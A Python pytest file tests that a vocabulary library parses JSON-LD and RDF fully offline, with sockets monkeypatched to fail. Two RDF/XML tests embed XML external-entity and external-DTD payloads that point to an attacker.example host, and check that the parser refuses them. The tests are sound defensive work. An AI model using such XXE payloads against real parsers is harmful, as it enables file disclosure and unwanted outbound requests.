"""Nothing in vocab's JSON-LD or RDF paths ever goes to the network: proven with sockets blocked."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

import pytest
from rdflib import Graph, URIRef

from vocab import jsonld, rdfio
from vocab.errors import RdfSyntaxError, UnknownContextError

UNKNOWN = "https://contexts.example.org/not-shipped.jsonld"


class NetworkUsedError(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every way Python opens a connection or resolves a name raises, and is recorded."""
    attempts: list[str] = []

    def refuse(*args: Any, **_kwargs: Any) -> Any:
        attempts.append(repr(args[:2]))
        raise NetworkUsedError(f"network access attempted: {args[:2]!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def test_the_socket_guard_really_catches_a_fetch(no_network: list[str]) -> None:
    import urllib.request

    with pytest.raises(NetworkUsedError):
        urllib.request.urlopen(UNKNOWN, timeout=5)
    assert no_network, "the guard did not see the attempt"


def test_rdflibs_own_json_ld_parsing_goes_through_our_loader(no_network: list[str]) -> None:
    """rdflib's built-in JSON-LD parser would download the context; ours replaces it."""
    document = json.dumps({"@context": UNKNOWN, "@id": "urn:a", "name": "x"})
    with pytest.raises(UnknownContextError):
        Graph().parse(data=document, format="json-ld")
    known = json.dumps({"@context": jsonld.DSP_CONTEXT, "@type": "CatalogRequestMessage", "filter": []})
    graph = Graph().parse(data=known, format="application/ld+json", publicID="https://example.org/")
    assert (None, None, URIRef("https://w3id.org/dspace/2025/1/CatalogRequestMessage")) in graph
    assert no_network == []


def test_unknown_remote_context_is_refused_naming_the_url(no_network: list[str]) -> None:
    doc = {"@context": UNKNOWN, "@id": "urn:a", "name": "x"}
    with pytest.raises(UnknownContextError) as raised:
        jsonld.expand(doc, base="https://example.org/")
    assert raised.value.url == UNKNOWN
    assert UNKNOWN in str(raised.value)
    assert raised.value.code == "unknown-context"
    assert no_network == []


def test_unknown_context_next_to_known_ones_is_still_refused(no_network: list[str]) -> None:
    doc = {"@context": [jsonld.DSP_CONTEXT, UNKNOWN], "@type": "CatalogRequestMessage"}
    with pytest.raises(UnknownContextError, match="not-shipped"):
        jsonld.to_graph(doc, base="https://example.org/")
    assert no_network == []


def test_relative_context_reference_is_refused_with_the_resolved_url(no_network: list[str]) -> None:
    doc = {"@context": "ctx.jsonld", "@id": "urn:a"}
    with pytest.raises(UnknownContextError) as raised:
        jsonld.expand(doc, base="https://publisher.example/records/")
    assert raised.value.url == "https://publisher.example/records/ctx.jsonld"
    assert no_network == []


def test_compacting_with_an_unknown_context_url_is_refused(no_network: list[str]) -> None:
    with pytest.raises(UnknownContextError):
        jsonld.compact({"@id": "urn:a", "http://purl.org/dc/terms/title": "t"}, UNKNOWN, base="")
    assert no_network == []


@pytest.mark.parametrize(
    "context_url",
    [
        jsonld.DSP_CONTEXT,
        jsonld.DSP_ODRL_PROFILE_CONTEXT,
        jsonld.ODRL_CONTEXT,
        jsonld.DCAT_AP_CONTEXT,
        jsonld.SLUIS_CONTEXT,
        jsonld.CREDENTIALS_V2_CONTEXT,
        jsonld.DID_V1_CONTEXT,
    ],
)
def test_every_context_we_ship_loads_offline(no_network: list[str], context_url: str) -> None:
    remote = jsonld.document_loader(context_url)
    assert remote["documentUrl"] == context_url
    assert isinstance(remote["document"]["@context"], dict)
    # usable as a context, too
    jsonld.expand({"@context": context_url, "@id": "urn:a"}, base="https://example.org/")
    assert no_network == []


def test_loader_hands_out_fresh_copies(no_network: list[str]) -> None:
    first = jsonld.document_loader(jsonld.ODRL_CONTEXT)["document"]
    first["@context"]["use"] = "https://tampered.example/"
    second = jsonld.document_loader(jsonld.ODRL_CONTEXT)["document"]
    assert second["@context"]["use"] == "odrl:use"


def test_known_contexts_expand_a_policy_offline(no_network: list[str]) -> None:
    policy = {
        "@context": [jsonld.ODRL_CONTEXT, jsonld.SLUIS_CONTEXT],
        "uid": "https://provider.example/policy/1",
        "type": "Offer",
        "permission": [
            {
                "target": "https://provider.example/asset/1",
                "action": "use",
                "constraint": [
                    {
                        "leftOperand": "purpose",
                        "operator": "isA",
                        "rightOperand": {"@id": "sluis-purpose:ai-training"},
                    },
                    {"leftOperand": "groupSize", "operator": "gteq", "rightOperand": 10},
                ],
            }
        ],
    }
    graph = jsonld.to_graph(policy, base="https://provider.example/")
    objects = set(graph.objects())
    assert URIRef("http://www.w3.org/ns/odrl/2/purpose") in objects
    assert URIRef("https://w3id.org/sluis/ns#groupSize") in objects
    assert URIRef("https://w3id.org/sluis/purpose/ai-training") in objects
    assert no_network == []


def test_parse_rdf_never_fetches_a_json_ld_context(no_network: list[str]) -> None:
    doc = json.dumps({"@context": UNKNOWN, "@id": "urn:a", "name": "x"}).encode()
    with pytest.raises(UnknownContextError):
        rdfio.parse_rdf(doc, "application/ld+json", base="https://example.org/")
    assert no_network == []


def test_parse_rdf_reads_a_dsp_message_offline(no_network: list[str], conformance_dir: Path) -> None:
    message = conformance_dir / "dsp" / "2025-1" / "examples" / "catalog" / "catalog.json"
    graph = rdfio.parse_rdf(message.read_bytes(), "application/ld+json", base="https://example.org/")
    assert (None, None, URIRef("http://www.w3.org/ns/dcat#Catalog")) in graph
    assert no_network == []


def test_rdf_xml_external_entity_is_refused_without_fetching(no_network: list[str]) -> None:
    doc = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE rdf:RDF [<!ENTITY secret SYSTEM "http://attacker.example/x">]>\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">\n'
        b'<rdf:Description rdf:about="http://a"><rdf:value>&secret;</rdf:value></rdf:Description>\n'
        b"</rdf:RDF>\n"
    )
    with pytest.raises(RdfSyntaxError, match="external entity") as raised:
        rdfio.parse_rdf(doc, "application/rdf+xml", base="https://example.org/")
    assert raised.value.line == 2
    assert no_network == []


def test_rdf_xml_external_dtd_is_refused_without_fetching(no_network: list[str]) -> None:
    doc = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE rdf:RDF SYSTEM "http://attacker.example/rdf.dtd">\n'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>\n'
    )
    with pytest.raises(RdfSyntaxError, match="external DTD"):
        rdfio.parse_rdf(doc, "application/rdf+xml", base="https://example.org/")
    assert no_network == []


def test_turtle_with_remote_looking_prefixes_parses_offline(no_network: list[str]) -> None:
    ttl = (
        "@base <https://publisher.example/> .\n"
        "@prefix dcat: <http://www.w3.org/ns/dcat#> .\n"
        "<dataset/1> a dcat:Dataset .\n"
    )
    graph = rdfio.parse_rdf(ttl, "text/turtle", base="https://other.example/")
    assert (URIRef("https://publisher.example/dataset/1"), None, None) in graph
    assert no_network == []
